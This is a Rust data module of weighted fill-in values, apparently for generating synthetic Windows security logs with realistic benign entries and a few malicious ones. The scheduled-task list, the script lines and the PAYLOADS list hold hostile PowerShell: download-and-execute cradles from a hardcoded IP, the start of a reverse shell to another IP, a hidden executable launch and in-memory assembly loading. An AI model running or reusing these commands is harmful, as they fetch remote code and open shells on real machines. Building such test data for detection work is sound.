//! Template fill-ins: what `{{doc}}`, `{{task}}`, `{{threat}}`,
//! `{{pscmd}}`, `{{pipe}}`, `{{svc}}`, `{{script}}` and `{{b64}}` expand to,
//! and filler words for columns nobody described.

pub(in crate::generate) const DOC_NAMES: &[(&str, u16)] = &[
    ("Q3 Budget Review", 3),
    ("Rechnung_2026-0042", 2),
    ("Meeting Notes", 3),
    ("Résumé - José García", 1),
    ("Payment_Advice", 1),
    ("Invoice_88231", 1),
    ("Roadmap 2026", 2),
];
/// Scheduled tasks: (name, command).
pub(in crate::generate) const TASKS: &[((&str, &str), u16)] = &[
    (
        (
            "Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan",
            "%systemroot%\\system32\\usoclient.exe StartScan",
        ),
        6,
    ),
    (
        (
            "Microsoft\\Office\\Office Automatic Updates 2.0",
            "C:\\Program Files\\Common Files\\Microsoft Shared\\ClickToRun\\OfficeC2RClient.exe /frequentupdate SCHEDULEDTASK displaylevel=False",
        ),
        4,
    ),
    (
        (
            "GoogleUpdateTaskMachineUA{D2A8D4B1-5C3E-4F1A-9B7D-3E2F1A0C9D8E}",
            "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe /ua /installsource scheduler",
        ),
        2,
    ),
    (
        (
            "Microsoft\\Windows\\Maintenance\\WinSAT",
            "%windir%\\system32\\WinSAT.exe formal -cpu",
        ),
        1,
    ),
    (
        (
            "OneDrive Standalone Update Task-S-1-5-21-1004336348-1177238915-682003330-1207",
            "C:\\Users\\Public\\OneDriveUpdater.exe",
        ),
        1,
    ),
    (
        (
            "SystemHealthCheck",
            "powershell.exe -w hidden -nop -c \"iex(irm http://185.220.101.47/h)\"",
        ),
        1,
    ),
];
pub(in crate::generate) const THREAT_NAMES: &[(&str, u16)] = &[
    ("Trojan:Win32/Wacatac.B!ml", 5),
    ("HackTool:Win32/Mimikatz.D", 2),
    ("Trojan:Script/Wacatac.H!ml", 2),
    ("Behavior:Win32/CobaltStrike.B", 1),
    ("PUA:Win32/Presenoker", 3),
];
pub(in crate::generate) const PS_CMDLETS: &[(&str, u16)] = &[
    ("Get-ChildItem", 10),
    ("Get-Process", 6),
    ("Import-Module", 8),
    ("Out-Default", 6),
    ("Get-CimInstance", 5),
    ("Invoke-WebRequest", 2),
    ("Set-ExecutionPolicy", 2),
    ("Invoke-Expression", 1),
    ("Add-MpPreference", 1),
    ("Get-ADComputer", 1),
];
pub(in crate::generate) const PIPE_NAMES: &[(&str, u16)] = &[
    ("lsass", 3),
    ("srvsvc", 4),
    ("wkssvc", 2),
    ("mojo.{{n5}}.{{n5}}.{{n19}}", 10),
    ("PSHost.{{n18}}.{{n4}}.DefaultAppDomain.powershell", 3),
    ("MSSE-{{n4}}-server", 1),
];
pub(in crate::generate) const SERVICE_NAMES: &[(&str, u16)] = &[
    ("PSEXESVC", 2),
    ("edgeupdate", 4),
    ("Sense", 2),
    ("MozillaMaintenance", 1),
    ("WinDefendUpdate", 1),
];
pub(in crate::generate) const SCRIPT_LINES: &[(&str, u16)] = &[
    ("$ErrorActionPreference = 'Stop'", 2),
    (
        "$logPath = Join-Path $env:ProgramData 'Contoso\\Logs\\inventory.log'",
        2,
    ),
    (
        "Get-CimInstance -ClassName Win32_Product | Select-Object Name, Version | Export-Csv -Path $csv -NoTypeInformation",
        3,
    ),
    (
        "if (-not (Test-Path $logPath)) { New-Item -ItemType File -Path $logPath -Force | Out-Null }",
        3,
    ),
    (
        "foreach ($svc in Get-Service | Where-Object { $_.StartType -eq 'Automatic' -and $_.Status -ne 'Running' }) {",
        2,
    ),
    ("    Write-Output (\"{0} is stopped\" -f $svc.Name)", 2),
    ("}", 3),
    (
        "$wc = New-Object System.Net.WebClient; $wc.Headers.Add('User-Agent','Mozilla/5.0')",
        1,
    ),
    (
        "[System.Reflection.Assembly]::Load([Convert]::FromBase64String($b))",
        1,
    ),
    (
        "Invoke-RestMethod -Uri 'https://graph.microsoft.com/v1.0/me' -Headers @{ Authorization = \"Bearer $token\" }",
        2,
    ),
    ("Write-Host 'Überprüfung abgeschlossen – keine Fehler'", 1),
    ("exit 0", 1),
];
pub(in crate::generate) const FILLER_WORDS: &[(&str, u16)] = &[
    ("Unknown", 4),
    ("None", 2),
    ("Default", 2),
    ("Contoso", 1),
    ("Enabled", 1),
];
pub(in crate::generate) const PAYLOADS: &[&str] = &[
    "IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.47/a.ps1')",
    "$c=New-Object Net.Sockets.TCPClient('45.142.212.61',443);$s=$c.GetStream()",
    "Start-Process -WindowStyle Hidden -FilePath \"$env:TEMP\\upd.exe\"",
];
